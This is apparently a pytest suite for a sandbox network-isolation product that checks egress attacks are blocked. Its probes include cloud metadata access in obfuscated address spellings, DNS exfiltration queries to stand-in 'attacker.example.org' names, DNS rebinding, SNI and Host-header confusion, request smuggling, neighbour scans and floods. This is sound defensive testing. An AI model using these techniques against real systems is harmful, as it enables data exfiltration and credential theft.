"""Group E of the attack catalogue from inside real sandboxes of every runtime, with captures of all that leaves.

"Blocked" means that no packet left the host's uplink, that nothing reached a service of the host's, and that the
program heard a no at once. Each site, resolver and neighbour is a real server. The probes that `ringfence attack`
carries out are carried out here too, where it can be seen that nothing leaves.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import socket
import textwrap
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from ringfence.attack import table
from ringfence.attack.observation import Observation
from ringfence.domain.errors import BadRequest
from ringfence.network import rules
from ringfence.node.live import Live
from tests.network.lab import (
    ALLOWED,
    FORBIDDEN,
    INTRANET,
    METADATA,
    NAMES,
    UPLINK,
    Capture,
    Lab,
    everything,
)
from tests.network.labnode import RUNTIMES, LabNode, missing, need
from tests.network.test_gate_parsers import made_hello, names
from tests.support import scale

GOOD, EVIL = "good.example.com", "evil.example.net"
WEB = [GOOD, {"domain": GOOD, "protocol": "http"}]
ALL = [{"cidr": "0.0.0.0/0", "ports": [22, 53, 80, 443, 853, 8000, 8080, 9000]}]
SOON = 12.0  # at once, on however busy a machine: sooner than any clock of the gate's would have it end
#: What programs here use beside the usual: what came of saying something to somebody, in a word.
TALK = """
import base64, json, struct
def talk(host, port, words, family=2, seconds=60):
    heard = b""
    try:
        with socket.socket(family) as connection:
            connection.settimeout(seconds)
            connection.connect((host, port))
            connection.sendall(words)
            while more := connection.recv(65536):
                heard += more
    except OSError as error:
        if not heard:
            return type(error).__name__
    if heard.startswith(bytes.fromhex("15030300020231")) or b"X-Ringfence: denied" in heard:
        return "denied"
    return heard.decode("latin-1")[:200] or "closed"
def get(host, path="/", extra=""):
    return f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n{extra}\\r\\n".encode("latin-1")
def question(name, kind=1):
    labels = b"".join(bytes([len(x)]) + x.encode("latin-1") for x in name.split("."))
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + bytes(1) + struct.pack(">HH", kind, 1)
def dns(name, kind=1, server=None):
    with socket.socket(2, 2) as asking:
        asking.settimeout(60)
        asking.sendto(question(name, kind), (server or open("/etc/resolv.conf").read().split()[1], 53))
        answer = asking.recv(4096)
    found = {0: "answered", 3: "no such name", 5: "refused"}.get(answer[3] & 15, "error")
    return "answered" if answer[7] else found
"""
NO = {"denied", "ConnectionResetError", "ConnectionRefusedError"}


Made = Callable[..., Live]


@pytest.fixture
def made(lab: Lab, node: LabNode, runtime: str) -> Iterator[Made]:
    """Makes sandboxes of this runtime; they end with the test."""
    lives: list[Live] = []

    def make(egress: object = None, **more: object) -> Live:
        lives.append(node.made(egress, **{"isolation": runtime, **more}))  # type: ignore[arg-type]
        return lives[-1]

    yield make
    for live in lives:
        node.release(live)
    seen = -1
    while seen != len(lab.capture.frames):  # last words of conversations are not the next test's
        seen = len(lab.capture.frames)
        time.sleep(0.03)


def answers(node: LabNode, live: Live, code: str, **more: object) -> dict[str, str]:
    """What a program finds, each under its name; it fills `seen`."""
    said = node.python(live, f"{TALK}\nseen = {{}}\n{textwrap.dedent(code)}\nprint(json.dumps(seen))", **more)
    found: dict[str, str] = json.loads(said.splitlines()[-1]) if said.splitlines()[-1:][0].startswith("{") else {}
    assert found, said
    return found


def eventually(check: Callable[[], object], seconds: float = 60.0) -> object:
    """Wait for something that is under way."""
    deadline = time.monotonic() + seconds
    while not (found := check()) and time.monotonic() < deadline:
        time.sleep(0.02)
    return found


# -- what anybody can try at home ------------------------------------------------------------------------------------


@pytest.mark.row(86, 87, 88, 89, 90, 94, 96, 97)
@pytest.mark.parametrize("name", [probe.name for probe in table.NETWORK])
def test_the_probes_are_held_and_nothing_leaves(lab: Lab, node: LabNode, runtime: str, name: str) -> None:
    """All that `ringfence attack` tries against the network, and not one packet on the uplink or to the host itself."""
    probe = table.named(name)
    facts = {"addresses": [str(UPLINK)], "tcp_ports": [9000, 9001], **probe.facts}
    verdict = probe.judge(Observation((node.probe(runtime, probe, facts),)))
    assert verdict.held, verdict.seen
    assert lab.capture.destinations() == set()
    assert lab.inner.frames == []
    assert lab.names.asked == []
    assert [visits for visits in lab.visits.values() if visits] == []


# -- 86: metadata ----------------------------------------------------------------------------------------------------


@pytest.mark.row(86)
def test_a_metadata_service_is_not_reached(lab: Lab, node: LabNode, made: Made) -> None:
    """A real one, in every spelling, by a name that leads there, behind an allowed site; and no policy may name it."""
    lab.names.table["metadata.google.internal"] = [[METADATA]]
    live = made([*ALL, "meta.example.com", {"domain": "meta.example.com", "protocol": "http"}])
    seen = answers(
        node,
        live,
        f"""
        for host in ("{METADATA}", "0xa9fea9fe", "2852039166", "0251.0376.0251.0376", "{INTRANET}"):
            seen[host] = talk(host, 80, get("{METADATA}", "/latest/meta-data/"))
        seen["mapped"] = talk("::ffff:{METADATA}", 80, get("{METADATA}"), 10)
        for host in ("fd00:ec2::254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::"):
            seen[host] = talk(host, 80, get("{METADATA}"), 10)
        for name in ("meta.example.com", "metadata.google.internal", "inside.example.com"):
            seen[name] = dns(name)
        """,
    )
    assert {seen.pop(name) for name in ("meta.example.com", "metadata.google.internal", "inside.example.com")} == {
        "refused"
    }
    assert set(seen.values()) <= {*NO, "OSError"}, seen
    assert lab.capture.destinations() <= {NAMES}
    assert not lab.visits[METADATA]
    assert not lab.visits[INTRANET]
    assert set(lab.names.asked) <= {"meta.example.com"}
    for policy in ([METADATA], [{"cidr": "169.254.0.0/16", "ports": [80]}], ["metadata.google.internal"]):
        with pytest.raises(BadRequest, match="rule 0"):
            made(policy)


# -- 87: the host ----------------------------------------------------------------------------------------------------


@pytest.mark.row(87)
def test_the_host_is_not_reached(lab: Lab, node: LabNode, made: Made) -> None:
    """Services on its public address, on its loopback and on the router's own: no connection, no packet."""
    doors = [lab.do(_listening(host)) for host in ("127.0.0.1", str(UPLINK))]
    try:
        live = made(ALL)
        seen = answers(
            node,
            live,
            f"""
            for host in ("{UPLINK}", "{rules.GATEWAY}", "127.0.0.1", "0.0.0.0"):
                for port in (22, 80, 443, 8080, 9000):
                    seen[f"{{host}}:{{port}}"] = talk(host, port, get(host))
            for port in (1, 111, 2375, 6443, 8642, 10250):
                seen[f"gateway {{port}}"] = talk("{rules.GATEWAY}", port, b"x")
            seen["sockets"] = str([path for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus",
                "/run/containerd", "/run/systemd", "/var/lib/ringfence") if os.path.exists(path)])
            """,
        )
        assert seen.pop("sockets") == "[]"
        assert set(seen.values()) <= NO, seen
        assert lab.inner.frames == []
        assert lab.capture.destinations() == set()
    finally:
        for door in doors:
            door.close()


async def _listening(host: str) -> socket.socket:
    return socket.create_server((host, 9000))


# -- 88: neighbours --------------------------------------------------------------------------------------------------


@pytest.mark.row(88, 100)
@pytest.mark.parametrize("other", scale.RUNTIMES)
def test_a_neighbour_of_any_runtime_is_not_reached(
    lab: Lab, node: LabNode, made: Made, runtime: str, other: str
) -> None:
    """Its listeners hear nothing, by stream or datagram, from anybody: not even where both may reach everything."""
    need(other)
    victim = made(ALL, isolation=other, tenant="victim")
    heard: list[str] = []
    listen = """
import selectors
doors = [socket.create_server(("0.0.0.0", port)) for port in (80, 8000)]
for port in (53, 8000, 5353):
    doors.append(socket.socket(2, 2)); doors[-1].bind(("0.0.0.0", port))
asking = socket.socket(2, 2)
asking.connect(("8.8.8.8", 9))
open("address", "w").write(asking.getsockname()[0])
ready = selectors.DefaultSelector()
for door in doors:
    ready.register(door, 1)
deadline = time.monotonic() + 100
while time.monotonic() < deadline and not os.path.exists("over"):
    for key, _ in ready.select(0.1):
        print("heard on", key.fileobj.getsockname()); sys.exit()
print("heard nothing")
"""
    waiting = threading.Thread(target=lambda: heard.append(node.python(victim, listen)))
    waiting.start()
    tell = "open('address').read() if os.path.exists('address') else ''"
    address = str(eventually(lambda: node.python(victim, f"print({tell})")))
    seen = answers(
        node,
        made(ALL, tenant="stranger"),
        f"""
        for port in (22, 80, 8000):
            seen[f"stream {{port}}"] = talk("{address}", port, b"GET / HTTP/1.1")
        for port in (8000, 5353):
            with socket.socket(2, 2) as sending:
                sending.settimeout(30)
                sending.connect(("{address}", port))
                try:
                    sending.send(b"x"); seen[f"datagram {{port}}"] = repr(sending.recv(10))
                except OSError as error:
                    seen[f"datagram {{port}}"] = type(error).__name__
        seen["question"] = dns("anything.example.org", server="{address}")
        near = "{address}".rsplit(".", 1)[0]
        for last in range(1, 30):
            seen[f"scan {{last}}"] = talk(f"{{near}}.{{last}}", 8000, b"x")
        """,
    )
    assert seen.pop("question") == "refused"  # by our own resolver, which every question comes to
    assert set(seen.values()) <= NO, seen
    node.python(victim, "open('over', 'w').close()")
    waiting.join(60)
    assert heard == ["heard nothing"]
    assert lab.capture.destinations() == set()


# -- 89: names -------------------------------------------------------------------------------------------------------


@pytest.mark.row(89)
@pytest.mark.parametrize("policy", [[], WEB])
def test_names_carry_nothing_out(lab: Lab, node: LabNode, made: Made, policy: list[object]) -> None:
    """Forbidden names by any resolver, transport and kind: refused here. Upstream hears of what is allowed alone."""
    lab.names.aliases["good2.example.com"] = "inside.example.com"
    live = made([*policy, "good2.example.com"] if policy else policy)
    seen = answers(
        node,
        live,
        """
        long = ".".join(["k" * 63] * 3 + ["attacker"])
        for server in (None, "8.8.8.8", "1.1.1.1"):
            for name in ("c2VjcmV0.attacker.example.org", long, "evil.example.net", "x.good.example.com"):
                for kind in (1, 10, 16, 255):
                    seen[f"{server} {name} {kind}"] = dns(name, kind, server)
            seen[f"{server} stream"] = "refused"
            words = question("data.attacker.example.org", 16)
            with socket.create_connection((server or "8.8.4.4", 53), 60) as stream:
                stream.sendall(len(words).to_bytes(2, "big") + words)
                seen[f"{server} stream"] = "refused" if stream.recv(4096)[5] & 15 == 5 else "answered"
        for kind in (10, 15, 16, 33, 252, 255, 257):
            seen[f"allowed, kind {kind}"] = dns("good.example.com", kind)
        seen["alias to a private address"] = dns("good2.example.com")
        seen["dot"] = talk("8.8.8.8", 853, b"\\x16\\3\\1")
        seen["doh"] = talk("1.1.1.1", 443, HELLO)
        """.replace("HELLO", repr(made_hello(names(b"cloudflare-dns.com")))),
    )
    assert {seen.pop("dot"), seen.pop("doh")} <= NO
    assert set(seen.values()) == {"refused"}, seen
    assert set(lab.names.asked) <= ({"good2.example.com"} if policy else set())
    assert lab.capture.destinations() <= ({NAMES} if policy else set())


@pytest.mark.row(89)
def test_without_a_policy_there_is_no_resolver(lab: Lab, node: LabNode, made: Made) -> None:
    """Nobody to ask, and every address unreachable at once."""
    seen = answers(
        node,
        made(),
        """
        began = time.monotonic()
        seen["resolver"] = open("/etc/resolv.conf").read()
        for host in ("8.8.8.8", "1.1.1.1", "198.18.0.1"):
            for port in (53, 443, 853):
                seen[f"{host}:{port}"] = talk(host, port, b"x")
        try:
            seen["name"] = str(socket.getaddrinfo("good.example.com", 80))
        except OSError as error:
            seen["name"] = "OSError"
        seen["soon"] = str(time.monotonic() - began < 30)
        """,
    )
    assert seen.pop("resolver") == ""
    assert seen.pop("soon") == "True"
    assert set(seen.values()) == {"OSError"}
    assert lab.capture.destinations() == set()


@pytest.mark.row(89)
def test_a_name_that_rebinds(lab: Lab, node: LabNode) -> None:
    """Good when it is asked for, private when it is asked for again: neither a sandbox nor the gate goes there."""
    here = [runtime for runtime in RUNTIMES if not missing(runtime)]
    with ThreadPoolExecutor(len(RUNTIMES)) as side_by_side:  # for each waits until its answer is stale
        tried = {runtime: side_by_side.submit(_rebound, lab, node, runtime) for runtime in here}
    for seen in (each.result() for each in tried.values()):
        assert seen.pop("good").startswith("HTTP/1.1 200")
        assert seen.pop("asked again") == "refused"
        assert set(seen.values()) <= NO, seen
    assert lab.capture.destinations() <= {NAMES, ALLOWED}
    assert {path for _, _, path in lab.visits[ALLOWED]} == {"/first"}
    assert not lab.visits[METADATA]
    assert not lab.visits[INTRANET]


def _rebound(lab: Lab, node: LabNode, runtime: str) -> dict[str, str]:
    for turn in range(10):
        seen = _rebound_once(lab, node, runtime, f"turns{turn}.{runtime}.example.com")
        if seen.pop("in time") == "True":  # else the first answer was stale before it was used
            break
    return seen


def _rebound_once(lab: Lab, node: LabNode, runtime: str, name: str) -> dict[str, str]:
    lab.names.table[name] = [[ALLOWED], [METADATA], [INTRANET]]
    policy = [{"domain": name, "protocol": "http"}, {"domain": name, "protocol": "tcp", "ports": [8080]}]
    live = node.made(policy, isolation=runtime)
    code = f"""
        began = time.monotonic()
        seen["good"] = talk(socket.gethostbyname("{name}"), 80, get("{name}", "/first"))
        seen["in time"] = str(time.monotonic() - began < 4)
        time.sleep(5.2)
        for host in ("{ALLOWED}", "{METADATA}", "{INTRANET}"):
            for port in (80, 8080):
                if (host, port) != ("{ALLOWED}", 8080):
                    seen[f"{{host}}:{{port}}"] = talk(host, port, get("{name}", "/again"))
        seen["asked again"] = dns("{name}")
        """
    try:
        return answers(node, live, code)
    finally:
        node.release(live)


# -- 90: confusion ---------------------------------------------------------------------------------------------------


HELLOS = {
    "right name, wrong address": (FORBIDDEN, made_hello(names(GOOD.encode()))),
    "wrong name, right address": (ALLOWED, made_hello(names(EVIL.encode()))),
    "no name": (ALLOWED, made_hello()),
    "two names": (ALLOWED, made_hello(names(GOOD.encode(), EVIL.encode()))),
    "hidden name": (ALLOWED, made_hello(names(GOOD.encode()), (0xFE0D, bytes(8)))),
    "dot": (ALLOWED, made_hello(names(f"{GOOD}.".encode()))),
    "NUL": (ALLOWED, made_hello(names(f"{EVIL}\0.{GOOD}".encode()))),
    "at": (ALLOWED, made_hello(names(f"{GOOD}@{EVIL}".encode()))),
    "longer": (ALLOWED, made_hello(names(f"{GOOD}.evil.net".encode()))),
    "run together": (ALLOWED, made_hello(names(f"evil{GOOD}".encode()))),
    "address": (ALLOWED, made_hello(names(ALLOWED.encode()))),
}
HOSTS = (
    EVIL, f"{GOOD}:8080", f"{GOOD}.", ALLOWED, "0x2d21010a", "055.041.01.012", f"{GOOD}@{EVIL}", f"{EVIL}\0.{GOOD}",
    f"{GOOD}.evil.net", f"evil{GOOD}", "[::ffff:2d21:10a]", "xn--god-rna.example.com", "127.0.0.1", "",
)  # fmt: skip
HEADS = (
    f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {GOOD}\r\n\r\n",
    f"GET / HTTP/1.1\r\nHost: {GOOD}\r\nHost: {EVIL}\r\n\r\n",
    f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {GOOD}:80\r\n\r\n",
    f"GET / HTTP/1.1\r\nHost: {GOOD}\r\nUpgrade: h2c\r\n\r\n",
    "GET /\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
)


@pytest.mark.row(90)
def test_nothing_passes_for_the_allowed_site(lab: Lab, node: LabNode, made: Made) -> None:
    """A name, a Host or an address that is nearly right, by hand and by OpenSSL; a second request behind the first."""
    hellos = {what: (host, base64.b64encode(words).decode()) for what, (host, words) in HELLOS.items()}
    seen = answers(
        node,
        made(WEB),
        f"""
        assert socket.gethostbyname("{GOOD}") == "{ALLOWED}"
        for what, (host, words) in {hellos!r}.items():
            seen[what] = talk(host, 443, base64.b64decode(words))
        for host in {HOSTS!r}:
            seen["Host: " + host] = talk("{ALLOWED}", 80, get(host))
        for words in {HEADS!r}:
            seen[words[:40]] = talk("{ALLOWED}", 80, words.encode())
        seen["another address"] = talk("{FORBIDDEN}", 80, get("{GOOD}"))
        for port in (22, 8080):
            seen[f"port {{port}}"] = talk("{ALLOWED}", port, get("{GOOD}"))
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        for host, name in (("{FORBIDDEN}", "{GOOD}"), ("{ALLOWED}", "{EVIL}")):
            try:
                context.wrap_socket(socket.create_connection((host, 443), 60), server_hostname=name)
                seen["OpenSSL " + name] = "shook hands"
            except (ssl.SSLError, ConnectionError):
                seen["OpenSSL " + name] = "denied"
        with socket.socket(2, 2) as quic:
            quic.settimeout(30)
            quic.connect(("{ALLOWED}", 443))
            try:
                quic.send(bytes(1200)); seen["QUIC"] = repr(quic.recv(10))
            except OSError as error:
                seen["QUIC"] = type(error).__name__
        """,
    )
    assert set(seen.values()) <= NO, seen
    assert lab.capture.destinations() <= {NAMES}
    assert not lab.visits[ALLOWED]
    assert not lab.visits[FORBIDDEN]


@pytest.mark.row(90)
def test_a_second_request_goes_nowhere(lab: Lab, node: LabNode, made: Made) -> None:
    """Pipelined, or hidden behind a body: the allowed site hears one request, and nobody hears the other."""
    seen = answers(
        node,
        made(WEB),
        f"""
        host = socket.gethostbyname("{GOOD}")
        first = b"POST /1 HTTP/1.1\\r\\nHost: {GOOD}\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
        first += b"3\\r\\nabc\\r\\n0\\r\\n\\r\\n"
        seen["plain"] = talk(host, 80, get("{GOOD}", "/1") + get("{EVIL}", "/2"))
        seen["chunked"] = talk(host, 80, first + get("{EVIL}", "/2"))
        """,
    )
    assert all("/2" not in said for said in seen.values())
    assert {path for _, _, path in lab.visits[ALLOWED]} == {"/1"}
    assert not lab.visits[FORBIDDEN]


# -- 92: policies ----------------------------------------------------------------------------------------------------


@pytest.mark.row(92)
@pytest.mark.parametrize("policy", [None, "none", [], {"allow": []}, {"mode": "none"}])
def test_an_empty_or_missing_policy_denies_everything(lab: Lab, node: LabNode, made: Made, policy: object) -> None:
    """However nothing is spelt."""
    seen = answers(
        node,
        made(policy),
        f"""
        for host in ("{ALLOWED}", "{FORBIDDEN}", "{METADATA}"):
            seen[host] = talk(host, 80, get("{GOOD}"))
        try:
            seen["name"] = socket.gethostbyname("{GOOD}")
        except OSError as error:
            seen["name"] = "OSError"
        """,
    )
    assert set(seen.values()) <= {*NO, "OSError"}, seen
    assert lab.capture.destinations() == set()


@pytest.mark.row(92)
def test_a_policy_that_says_too_much_starts_nothing(node: LabNode, made: Made) -> None:
    """Everything, far too much, what is below the floor: refused with the rule's number. Twice the same is fine."""
    for policy in (["*"], [f"h{n}.example.com" for n in range(10_000)], [*WEB, "10.0.0.1"], [{"cidr": "::/0"}], "all"):
        with pytest.raises(BadRequest, match=r"rule \d|rules|must be"):
            made(policy)
    live = made([*WEB, *WEB])
    assert len(live.describe()["egress"]["allow"]) == 2
    assert "200" in node.python(live, f"{TALK}\nprint(talk(socket.gethostbyname('{GOOD}'), 80, get('{GOOD}')))")


# -- 94: IPv6 --------------------------------------------------------------------------------------------------------


@pytest.mark.row(94)
def test_ipv6_never_gets_onto_the_wire(lab: Lab, node: LabNode, made: Made) -> None:
    """No address, no route, no neighbour: where every wire ends no such frame arrives, not even a kernel's own."""
    router = node.network._router

    class There:
        run = staticmethod(lambda call: node.do(router._there(call)))

    made([]).describe()  # the first opens the router
    capture = Capture(There, "")  # type: ignore[arg-type]
    try:
        seen = answers(
            node,
            made(ALL),
            """
            wire = socket.if_nametoindex("eth0")
            for host in ("ff02::1", "ff02::2", "ff02::fb", "fe80::1"):
                with socket.socket(10, 2) as sending:
                    try:
                        sending.sendto(b"x", (host, 5353, 0, wire)); seen[host] = "sent"
                    except OSError as error:
                        seen[host] = "OSError"
            for host in ("2001:4860:4860::8888", "fd00:ec2::254", "fe80::1%eth0"):
                seen[host] = talk(host, 80, b"x", 10)
            time.sleep(1.5)
            """,
        )
        assert set(seen.values()) == {"OSError"}, seen
        assert eventually(lambda: capture.frames or True)
        assert [frame for frame in capture.frames if frame[12:14] == b"\x86\xdd"] == []
    finally:
        capture.close()
    assert lab.capture.destinations() == set()


# -- 99, 100, 102, 80: while it lives --------------------------------------------------------------------------------


@pytest.mark.row(99)
def test_what_is_no_longer_allowed_is_cut(lab: Lab, node: LabNode, made: Made) -> None:
    """Within a second of the change, at both ends; what is still allowed goes on, and new connections are denied."""
    both = [{"cidr": f"{ALLOWED}/32", "ports": [7002]}, {"cidr": f"{ALLOWED}/32", "ports": [7003]}]
    live = made(both)
    said: list[str] = []
    code = f"""
        cut, kept = (socket.create_connection(("{ALLOWED}", port), 60) for port in (7002, 7003))
        for each in (cut, kept):
            each.sendall(b"hello")
        try:
            print("cut", cut.recv(10))
        except ConnectionResetError:
            kept.sendall(b"again")
            print("reset", kept.recv(10), reach("{ALLOWED}", 7002))
        """
    with lab.door(ALLOWED, 7002) as first, lab.door(ALLOWED, 7003) as second:
        talking = threading.Thread(target=lambda: said.append(node.python(live, code)))
        talking.start()
        for door in (first, second):
            door.settimeout(60)
        cut, kept = first.accept()[0], second.accept()[0]
        with cut, kept:
            assert (cut.recv(10), kept.recv(10)) == (b"hello", b"hello")
            began = time.monotonic()
            node.allow(live, both[1:])
            assert everything(cut) == b"<reset>"
            assert time.monotonic() - began < SOON
            assert kept.recv(10) == b"again"
            kept.sendall(b"still")
            talking.join(60)
    assert said[0].startswith("reset b'still' ConnectionResetError"), said
    assert eventually(lambda: any(event["port"] == 7002 for event in node.told(live, "egress.cut")))


@pytest.mark.row(100)
def test_nobody_knocks_from_outside(lab: Lab, node: LabNode, made: Made) -> None:
    """Whatever it listens on, neither the internet nor the host finds it, and it hears nothing."""
    live = made(WEB)
    said: list[str] = []
    code = """
        doors = [socket.create_server(("0.0.0.0", port)) for port in (22, 80, 8000, 8642)]
        asking = socket.socket(2, 2)
        asking.connect(("8.8.8.8", 9))
        open("address", "w").write(asking.getsockname()[0])
        deadline = time.monotonic() + 100
        while time.monotonic() < deadline and not os.path.exists("over"):
            time.sleep(0.05)
        for door in doors:
            door.setblocking(False)
            try:
                print("heard", door.accept()[1])
            except BlockingIOError:
                pass
        """
    listening = threading.Thread(target=lambda: said.append(node.python(live, code)))
    listening.start()
    tell = "open('address').read() if os.path.exists('address') else ''"
    address = eventually(lambda: node.python(live, f"print({tell})"))

    async def from_the_host(port: int) -> None:
        socket.create_connection((str(address), port), 0.3).close()

    for port in (22, 80):
        with pytest.raises(OSError, match=r"timed out|unreachable|No route"):
            lab.internet.run(lambda port=port: socket.create_connection((str(address), port), 0.3))  # type: ignore[misc]
        with pytest.raises(OSError, match=r"timed out|unreachable|No route"):
            node.do(from_the_host(port))
    node.python(live, "open('over', 'w').close()")
    listening.join(60)
    assert said == [""]


@pytest.mark.row(102)
def test_an_allowed_site_is_a_channel_of_bounded_size(lab: Lab, node: LabNode, made: Made) -> None:
    """What goes to it cannot be told from what should: it is counted, told, and cut at the policy's bytes."""
    policy = {"allow": [{"cidr": f"{ALLOWED}/32", "ports": [7004]}], "max_bytes": 200_000}
    live = made(policy)
    taken = bytearray()
    with lab.door(ALLOWED, 7004) as door:
        door.settimeout(60)

        def take() -> None:
            with contextlib.suppress(OSError):
                connection = door.accept()[0]
                while data := connection.recv(65536):
                    taken.extend(data)

        taking = threading.Thread(target=take)
        taking.start()
        said = node.python(
            live,
            f"""
            leak = socket.create_connection(("{ALLOWED}", 7004), 60)
            try:
                for _ in range(1000):
                    leak.sendall(bytes(10_000)); time.sleep(0.001)
                print("all of it")
            except OSError as error:
                print(type(error).__name__)
            print(reach("{ALLOWED}", 7004))
            """,
        )
        taking.join(60)
    assert said.splitlines()[0] in {"ConnectionResetError", "BrokenPipeError"}
    assert "Reset" in said.splitlines()[1]
    assert len(taken) < 400_000  # a reset takes with it what was not read
    told = node.told(live, "egress.cut", "egress.failed", "egress.allowed")
    assert sum(event["sent"] for event in told) >= 100_000
    assert eventually(lambda: any("used up" in event["reason"] for event in node.told(live, "egress.denied")))


@pytest.mark.row(80)
def test_a_flood_stays_with_whoever_makes_it(lab: Lab, node: LabNode, made: Made) -> None:
    """Datagrams, questions and connections by the thousand: bounded for each, and a neighbour is served meanwhile."""
    busy, calm = made(ALL, tenant="busy"), made(WEB, tenant="calm")
    before = node.do(node.network._router._there(_tracked))
    flood = f"""
        sending = socket.socket(2, 2)
        for number in range(6000):
            try:
                sending.sendto(b"x" * 30, ("8.8.8.8", 53 if number % 2 else 443))
            except OSError:
                pass
        held, refused = [], 0
        for _ in range(700):
            try:
                connection = socket.create_connection(("{ALLOWED}", 80), 30)
                connection.sendall(b"G")
                held.append(connection)
            except OSError:
                refused += 1
        print("flooded")
        """
    said: list[str] = []
    flooding = threading.Thread(target=lambda: said.append(node.python(busy, flood)))
    flooding.start()
    for number in range(5):
        assert f"/calm{number}" in node.python(calm, f"print(fetch('http://{GOOD}/calm{number}'))")
    flooding.join(60)
    assert said == ["flooded"]
    assert lab.capture.destinations() <= {NAMES, ALLOWED}

    assert node.do(node.network._router._there(_tracked)) - before < 2 * rules.MOST_CONNECTIONS


def _tracked() -> int:
    """How many connections this namespace's kernel keeps in mind."""
    with open("/proc/sys/net/netfilter/nf_conntrack_count") as file:
        return int(file.read())


# -- what a tool could do wrong --------------------------------------------------------------------------------------


@pytest.mark.row(87, 88)
@pytest.mark.parametrize("policy", [None, WEB])
def test_no_sandbox_is_in_the_hosts_network(node: LabNode, made: Made, policy: object) -> None:
    """With a policy and without: its first process, and its tool's children, are in a namespace of their own."""
    one, two = made(policy), made(policy)
    host = {os.stat("/proc/self/ns/net").st_ino, node.do(_namespace())}
    found = [os.stat(f"/proc/{_inmost(live.started.pid)}/ns/net").st_ino for live in (one, two)]
    assert len({*found, *host}) == len(found) + len(host)


async def _namespace() -> int:
    return os.stat("/proc/thread-self/ns/net").st_ino


def _inmost(pid: int) -> int:
    """A sandbox's first process; under gVisor, whose tool stays outside, its kernel."""
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        if b"runsc" not in file.read():
            return pid
    for name in os.listdir(f"/proc/{pid}/task"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/task/{name}/children") as file:  # threads come and go
            for child in file.read().split():
                with open(f"/proc/{child}/cmdline", "rb") as words:
                    if b"boot" in words.read().split(b"\0"):
                        return int(child)
    pytest.fail("gVisor's kernel is not to be found")
